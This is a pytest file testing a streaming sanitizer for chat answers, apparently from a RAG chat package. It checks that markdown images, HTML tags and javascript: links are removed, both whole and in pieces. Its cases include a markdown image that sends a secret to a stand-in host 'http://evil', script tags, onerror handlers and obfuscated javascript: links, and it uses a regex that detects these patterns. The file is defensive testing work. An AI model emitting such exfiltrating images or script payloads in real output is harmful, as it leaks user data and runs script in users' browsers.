"""Answers are safe to show, in pieces as well as whole."""

from __future__ import annotations

import random
import re

import pytest

from ragline.chat.rendering import LONGEST, Rendering, rendered

CASES = {
    "image": ("See ![a map](http://evil/?q=secret) here.", "See a map here."),
    "image without words": ("![](http://evil/x.png)", ""),
    "image with a title": ('![a [b]](<http://evil/x y> "t")', "a [b]"),
    "image by reference": ("![a][r]\n\n[r]: http://evil", "! [a][r]\n\n[r]: http://evil"),
    "image in a link": ("[![a](http://evil)](http://page)", "[a](http://page)"),
    "image in an image": ("![![x](http://evil)](http://evil)", "x"),
    "image that never ends": ("![a](http://evil", "! [a](http://evil"),
    "image that a tag would make": ("!<b>[x](http://evil)", "! [x](http://evil)"),
    "marker behind an exclamation": ("It works![1] Fine.", "It works! [1] Fine."),
    "script": ("<script>alert(1)</script>", "alert(1)"),
    "tag with a sign in a quote": ("a <img src=x onerror='a>b'> b", "a  b"),
    "tag that a tag would make": ("<<b>img src=x>", "< img src=x>"),
    "tag that never ends": ("<img src=x", "< img src=x"),
    "comment": ("a<!-- b > c -->d", "ad"),
    "no tag": ("a<b and List<String>, 5 < 6 <5mg", "a< b and List< String>, 5 < 6 <5mg"),
    "address": ("<https://a.b/c> <me@b.c>", "https://a.b/c me@b.c"),
    "link that runs": ("[x](javascript:alert(1))", "[x](#alert(1))"),
    "link that hides it": ("[x](java&Tab;script:a)", "[x](#Tab;script:a)"),
    "link": ("[x](https://a.b/c_(d)?e=1&f=2) [1]", "[x](https://a.b/c_(d)?e=1&f=2) [1]"),
    "plain": ("Wait! *Two* years [1][2]: yes.", "Wait! *Two* years [1][2]: yes."),
}
PARTS = [*"<>![]()/:&\\'\"1 \n", "b", "img", "script", "http://x", "javascript", "--", "!["]


@pytest.mark.parametrize(("text", "expected"), CASES.values(), ids=CASES)
def test_whole(text: str, expected: str) -> None:
    """Images and markup go, their words stay, and nothing else changes."""
    assert expected == rendered(text)


@pytest.mark.parametrize(("text", "expected"), CASES.values(), ids=CASES)
def test_letter_by_letter(text: str, expected: str) -> None:
    """What comes in pieces is rendered as the whole is, and no piece shows more."""

    rendering = Rendering()
    pieces = [rendering.feed(letter) for letter in text]

    assert expected == "".join(pieces) + rendering.end()


def test_any_text() -> None:
    """No text leaves an image, a tag or a link that runs, however it is cut."""

    chance = random.Random(1)
    for _ in range(5000):
        text = "".join(chance.choices(PARTS, k=chance.randint(1, 14)))
        rendering, rest, shown = Rendering(), text, ""
        while rest:
            size = chance.randint(1, 5)
            shown, rest = shown + rendering.feed(rest[:size]), rest[size:]
        shown += rendering.end()

        assert rendered(text) == shown
        assert re.search(r"!\[|<[a-zA-Z/!?]|\]\(\s*<?\s*javascript\s*:", shown) is None, text


def test_image_is_held_back() -> None:
    """Of an image that is not complete nothing is shown."""

    rendering = Rendering()

    assert "See " == rendering.feed("See ![a map](http://evil/?q=sec")


def test_nothing_is_held_for_ever() -> None:
    """What does not end within bounds is taken for plain text, and the stream goes on."""

    rendering = Rendering()

    assert rendering.feed("![a](" + LONGEST * "x").startswith("! [a](xxx")
